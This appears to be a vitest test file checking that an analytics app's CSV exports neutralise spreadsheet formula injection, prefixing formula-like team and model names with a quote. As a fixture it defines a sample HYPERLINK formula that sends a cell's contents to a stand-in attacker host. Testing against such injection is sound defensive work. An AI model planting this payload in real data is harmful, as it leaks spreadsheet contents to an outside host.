import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { explorerCsv } from "@/lib/analytics/csv";
import type { ExplorerResult } from "@/lib/analytics/schemas";
import { focusCsvLine, toFocusRow, type LedgerExportRecord } from "@/lib/exports/focus";
import { FOCUS_EXPORT_HEADER } from "@/lib/exports/focus-spec";
import { chargebackCsv, type Chargeback } from "@/lib/reports/chargeback";
import { reconciliationCsv, type Reconciliation } from "@/lib/reports/reconciliation";

// One case per CSV export: a team (or model) named like a formula comes out neutralized, and a negative amount
// stays a number finance can sum. (The upload error CSV reads the database: lib/uploads/uploads.int.test.ts.)

const EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
const read = (csv: string) => parse(csv, { relax_column_count: true }) as string[][];

describe("formula injection in every export", () => {
  it("explorer", () => {
    const result = {
      query: { from: "2026-01-01", to: "2026-01-31", groupBy: ["team"], filters: {}, metric: "effective", granularity: "day", compare: false },
      previousRange: null,
      source: "rollup",
      currency: "USD",
      scopedToTeams: null,
      rows: [
        { key: "t1", group: [{ value: "t1", label: EVIL }], value: "-12.50", previous: null, change: null },
        { key: "t2", group: [{ value: "@t2", label: "+Ops" }], value: "40.00", previous: null, change: null },
      ],
      total: { value: "27.50", previous: null, change: null },
      buckets: [],
      truncated: false,
    } as unknown as ExplorerResult;
    const rows = read(explorerCsv(result));
    expect(rows[2]).toEqual([`'${EVIL}`, "t1", "-12.50"]);
    expect(rows[3]).toEqual(["'+Ops", "'@t2", "40.00"]);
  });

  it("chargeback", () => {
    const report: Chargeback = {
      from: "2026-01",
      to: "2026-01",
      currency: "USD",
      months: ["2026-01"],
      rows: [{ teamId: "t1", team: EVIL, costCenter: "-CC", month: "2026-01", direct: "-12.50", sharedIn: "0.00", sharedOut: "0.00", total: "-12.50" }],
      monthTotals: [],
      total: { direct: "-12.50", sharedIn: "0.00", sharedOut: "0.00", total: "-12.50" },
      splits: [],
      scopedToTeams: null,
    };
    const rows = read(chargebackCsv(report));
    expect(rows[1]).toEqual(["2026-01", "'-CC", `'${EVIL}`, "t1", "-12.50", "0.00", "0.00", "-12.50", "USD"]);
  });

  it("reconciliation", () => {
    const line = { key: "openai", label: EVIL, billed: "10.00", estimated: "22.50", estimatedOnBilledDays: "22.50", difference: "-12.50", differencePercent: "-55.56", billedDays: 3, usageDays: 3, unpricedRecords: 0, status: "over" };
    const report = { currency: "USD", from: "2026-01", to: "2026-01", months: ["2026-01"], rows: [{ ...line, provider: "openai", month: "2026-01" }], total: line } as unknown as Reconciliation;
    const rows = read(reconciliationCsv(report));
    expect(rows[1]!.slice(0, 7)).toEqual(["2026-01", `'${EVIL}`, "10.00", "22.50", "22.50", "-12.50", "-55.56"]);
  });

  it("FOCUS", () => {
    const record = {
      naturalKey: "00000000-0000-0000-0000-000000000001", usageDate: "2026-03-02", periodStart: "2026-03-02T00:00:00.000Z", periodEnd: "2026-03-03T00:00:00.000Z",
      provider: "openai", service: null, model: "gpt-4o", serviceTier: "standard", contextTier: null, project: "proj_1", apiKey: "key_1", providerUser: "user-1",
      tags: null, teamId: "t1", teamName: EVIL, teamCostCenter: "CC-1", workflowId: null, workflowName: null,
      uncachedInputTokens: "0", cacheReadInputTokens: "0", cacheWrite5mInputTokens: "0", cacheWrite1hInputTokens: "0", outputTokens: "0", reasoningTokens: "0",
      requests: "0", otherUnits: null, otherUnit: null, billedCost: "-12.50", estimatedCost: null, listCost: null, unpriced: false, currency: "USD",
      chargeCategory: "credit", sourceKind: "upload",
    } as LedgerExportRecord;
    const [row] = parse(FOCUS_EXPORT_HEADER.join(",") + "\r\n" + focusCsvLine(toFocusRow(record, { id: "org_1", name: "Acme" })), { columns: true }) as Record<string, string>[];
    expect(row!.x_TeamName).toBe(`'${EVIL}`);
    expect(row!.BilledCost).toBe("-12.5");
  });
});
